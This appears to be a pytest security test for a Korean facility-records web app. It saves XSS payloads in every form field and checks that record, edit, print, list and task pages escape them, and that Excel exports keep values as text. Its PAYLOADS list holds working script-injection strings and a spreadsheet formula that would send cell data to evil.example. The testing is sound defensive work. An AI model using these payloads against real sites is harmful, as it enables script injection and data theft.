"""Stored XSS: script payloads in every text field of every shipped form come back escaped.

For each form of the shipped library, a facility whose profile offers it gets a record (a
draft, through the API, as a client would) whose every free-text field, top level and in rows,
holds an XSS payload. Then the screens that show those values are fetched — the record view,
the edit screen, the print view, the list — and none may contain a payload's raw markup, while
the escaped text must be there (the value really is shown). The Excel export keeps each
payload as a text cell (a leading ``=`` never becomes a formula).

A task screen is checked with a subject whose name is a payload and a task form re-shown with
payload values after a refused submission. Query strings reflected into pages (the export
reason page keeps the list's filters) are checked too.
"""

from __future__ import annotations

import datetime as dt
import io
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from ieum.config import REPOSITORY_ROOT
from ieum.forms.engine import hidden_fields
from ieum.forms.fields import Field, field_tree
from ieum.services.admin.facilities import create_facility
from ieum.services.admin.users import create_user, grant_role
from ieum.store.migrate import upgrade
from ieum.store.models import Facility, Subject
from tests.formlab import api_token
from tests.webutil import PASSWORD, csrf_token, login

TODAY = dt.date(2026, 3, 16)
PAYLOADS = (
    "<script>alert('x1')</script>",
    '"><img src=x onerror=alert(2)>',
    "javascript:alert(3)//<svg/onload=alert(4)>",
    "'><iframe src=javascript:alert(5)></iframe>",
    "</textarea><script>alert(6)</script>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
)
RAW = ("<script>alert", "<img src=x", "<svg/onload", "<iframe", "</textarea><script")
ESCAPED = ("&lt;script&gt;alert", "&lt;img src=x onerror", "&lt;svg/onload", "&lt;iframe src",
           "&lt;/textarea&gt;&lt;script&gt;")
TEXT_KINDS = {"text", "textarea"}


def text_fields(items: tuple[Field, ...]) -> list[Field]:
    return [f for f in items if f.kind in TEXT_KINDS and not f.readonly and not f.computed
            and "pattern" not in f.schema and "format" not in f.schema]


def payload_data(form) -> tuple[dict[str, Any], list[str]]:  # noqa: ANN001
    """Every free-text field (top level and in one row of each table) set to a payload."""
    data: dict[str, Any] = {}
    used: list[str] = []
    n = 0
    tree = field_tree(form)

    def next_payload(limit: int | None) -> str:
        nonlocal n
        text = PAYLOADS[n % len(PAYLOADS)]
        n += 1
        used.append(text)
        return text[:limit] if limit else text

    for item in text_fields(tree.fields):
        data[item.name] = next_payload(item.max_length)
    for item in tree.fields:
        if item.kind == "rows":
            row = {child.name: next_payload(child.max_length)
                   for child in text_fields(item.children)}
            if row:
                data[item.name] = [row]
        elif item.kind == "group":
            group = {child.name: next_payload(child.max_length)
                     for child in text_fields(item.children)}
            if group:
                data[item.name] = group
    reveal(form, data)
    return data, used


def reveal(form, data: dict[str, Any]) -> None:  # noqa: ANN001
    """Choose the choice values that leave the fewest fields hidden by ``x-visible``, so the
    payloads in conditional fields are kept."""
    if not form.visible:
        return
    choices = [f for f in field_tree(form).fields
               if f.kind in ("select", "radio", "boolean", "checkboxes", "multiselect")]
    for _ in range(2):
        for item in choices:
            if item.kind == "boolean":
                options: list[Any] = [True, False]
            elif item.kind in ("checkboxes", "multiselect"):
                options = [[value for value, _label in item.options]]
            else:
                options = [value for value, _label in item.options]
            best = min(options, key=lambda value: len(hidden_fields(
                form, {**data, item.name: value}, TODAY)))
            data[item.name] = best


def assert_escaped(html: str, where: str) -> None:
    raw = [marker for marker in RAW if marker in html]
    assert not raw, f"{where}: raw markup {raw} in the page"


@pytest.fixture(scope="module")
def library(tmp_path_factory):
    """The shipped library on SQLite with one facility per profile needed to reach every form,
    a platform administrator holding every non-conflicting role, and a payload-named subject."""
    from ieum import create_app

    folder = tmp_path_factory.mktemp("xss")
    url = f"sqlite:///{folder / 'xss.db'}"
    upgrade(url)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("IEUM_INSTANCE_PATH", str(folder / "instance"))
        app = create_app({"TESTING": True, "SECRET_KEY": "test-secret",
                          "IEUM_DATABASE_URL": url, "IEUM_CONTENT_ROOTS": [str(REPOSITORY_ROOT)],
                          "IEUM_PLUGINS": False, "IEUM_TODAY": TODAY.isoformat()})
        registry = app.extensions["ieum.registry"]
        targets: dict[str, tuple[str, str]] = {}  # form -> (facility code, unit)
        with app.extensions["ieum.database"].session() as s:
            user = create_user(s, login="xss", name="<b>관리자</b>", password=PASSWORD)
            for profile in sorted(registry.profiles.values(), key=lambda p: -len(p.unit_ids)):
                wanted = [(u, f) for u in profile.unit_ids
                          for f in registry.unit_functions[u].forms if f not in targets]
                if not wanted:
                    continue
                code = f"x-{profile.code}".replace("_", "-")[:30]
                facility = create_facility(s, registry, code=code, name=f"시설 {profile.title}",
                                           profile_code=profile.code, region_code="11110")
                held: list[str] = []
                for role in profile.roles:
                    if profile.exclusive_conflicts([*held, role]):
                        continue
                    grant_role(s, registry, user=user, facility=facility, role=role,
                               valid_from=dt.date(2026, 1, 1))
                    held.append(role)
                s.add(Subject(facility_id=facility.id, name=PAYLOADS[0], status="입소"))
                for unit_id, form_id in wanted:
                    targets.setdefault(form_id, (code, unit_id))
            s.commit()
        yield app, targets
        app.extensions["ieum.database"].dispose()


def test_every_form_a_facility_can_use_is_covered(library) -> None:
    app, targets = library
    registry = app.extensions["ieum.registry"]
    offered = {f for p in registry.profiles.values() for u in p.unit_ids
               for f in registry.unit_functions[u].forms}
    assert set(targets) == offered
    assert len(targets) >= 40


def subject_of(app, code: str) -> int:
    with app.extensions["ieum.database"].session() as s:
        return s.scalar(select(Subject.id).join(Facility).where(Facility.code == code))


def test_payloads_in_every_text_field_come_back_escaped_on_every_screen(library) -> None:
    app, targets = library
    registry = app.extensions["ieum.registry"]
    api = app.test_client()
    headers = api_token(api, "xss")
    browser = app.test_client()
    assert login(browser, "xss").status_code == 302
    shown = exported = 0
    problems: list[str] = []
    for form_id, (code, unit_id) in sorted(targets.items()):
        form = registry.forms[form_id]
        data, used = payload_data(form)
        if not used:
            continue
        base = f"/f/{code}/u/{unit_id}/{form_id}"
        response = api.post(f"/api/v1{base}/records", headers=headers,
            json={"data": data, "draft": True, "subject_id": subject_of(app, code)})
        if response.status_code != 201:
            problems.append(f"{form_id}: draft not saved: {response.status_code} "
                            f"{response.get_json()}")
            continue
        record_id = response.get_json()["id"]
        stored = response.get_json()["data"]
        assert any(stored.get(k) == v for k, v in data.items()), form_id  # stored verbatim
        for page in (f"{base}/{record_id}", f"{base}/{record_id}/edit",
                     f"{base}/{record_id}/print", f"{base}/"):
            answer = browser.get(page)
            if answer.status_code == 403:  # not granted to anyone here (e.g. export)
                continue
            if answer.status_code != 200:
                problems.append(f"{page}: {answer.status_code}")
                continue
            html = answer.get_data(as_text=True)
            assert_escaped(html, page)
            shown += any(marker in html for marker in ESCAPED)
        token = csrf_token(browser, f"{base}/")
        export = browser.post(f"{base}/export.xlsx",
                              data={"csrf_token": token, "reason": "점검용 내려받기"})
        if export.status_code == 403:
            continue
        if export.status_code != 200:
            problems.append(f"{base}/export.xlsx: {export.status_code}")
            continue
        sheet = load_workbook(io.BytesIO(export.data)).active
        cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
        for cell in cells:
            if cell.value.startswith("="):
                assert cell.data_type == "s", f"{form_id}: formula cell {cell.value!r}"
        exported += any(c.value in used for c in cells)
    assert not problems, "\n".join(problems)
    assert shown >= len(targets) * 2  # the escaped payloads really were on the pages
    assert exported >= len(targets) // 2  # ... and in the exported cells, as text


def test_task_screen_and_reflected_query_strings_are_escaped(library) -> None:
    app, targets = library
    registry = app.extensions["ieum.registry"]
    browser = app.test_client()
    assert login(browser, "xss").status_code == 302
    api = app.test_client()
    headers = api_token(api, "xss")
    started = None
    for code, unit_id in sorted(targets.values()):
        for process_id in registry.unit_functions[unit_id].processes:
            response = api.post(f"/api/v1/f/{code}/u/{unit_id}/processes/{process_id}",
                                headers=headers, json={"subject_id": subject_of(app, code)})
            if response.status_code == 201 and any(
                    t["state"] == "ready" and t["form_id"] for t in response.get_json()["tasks"]):
                started = (code, response.get_json())
                break
        if started:
            break
    assert started, "no process with a form task could be started"
    code, instance = started
    task = next(t for t in instance["tasks"] if t["state"] == "ready" and t["form_id"])
    page = f"/f/{code}/tasks/{task['id']}"
    named = []
    for path in (page, f"/f/{code}/tasks/", f"/f/{code}/processes/{instance['id']}",
                 f"/f/{code}/subjects/{subject_of(app, code)}"):
        answer = browser.get(path, follow_redirects=True)
        assert answer.status_code == 200, path
        html = answer.get_data(as_text=True)
        assert_escaped(html, path)
        if "&lt;script&gt;alert(&#39;x1&#39;)" in html:  # the subject's name
            named.append(path)
    assert f"/f/{code}/subjects/{subject_of(app, code)}" in named, named
    form = registry.forms[task["form_id"]]
    values = {item.name: PAYLOADS[1] for item in text_fields(field_tree(form).fields)}
    values["csrf_token"] = csrf_token(browser, page) if browser.get(page).status_code == 200 \
        else csrf_token(browser, f"/f/{code}/tasks/")
    answer = browser.post(page, data={**values, "not_a_date": "x"}, follow_redirects=True)
    assert answer.status_code in (200, 400)
    assert_escaped(answer.get_data(as_text=True), f"POST {page}")
    # Reflected: the export reason page keeps the list's filters as hidden fields.
    checked = 0
    for form_id, (code, unit_id) in sorted(targets.items()):
        reflected = browser.get(f"/f/{code}/u/{unit_id}/{form_id}/export.xlsx",
                                query_string={PAYLOADS[1]: PAYLOADS[0], "q": PAYLOADS[4]})
        if reflected.status_code == 403:
            continue
        assert reflected.status_code == 200
        html = reflected.get_data(as_text=True)
        assert_escaped(html, "export reason page")
        assert "&lt;/textarea&gt;&lt;script&gt;" in html  # the filter is kept, escaped
        checked += 1
    assert checked >= 10
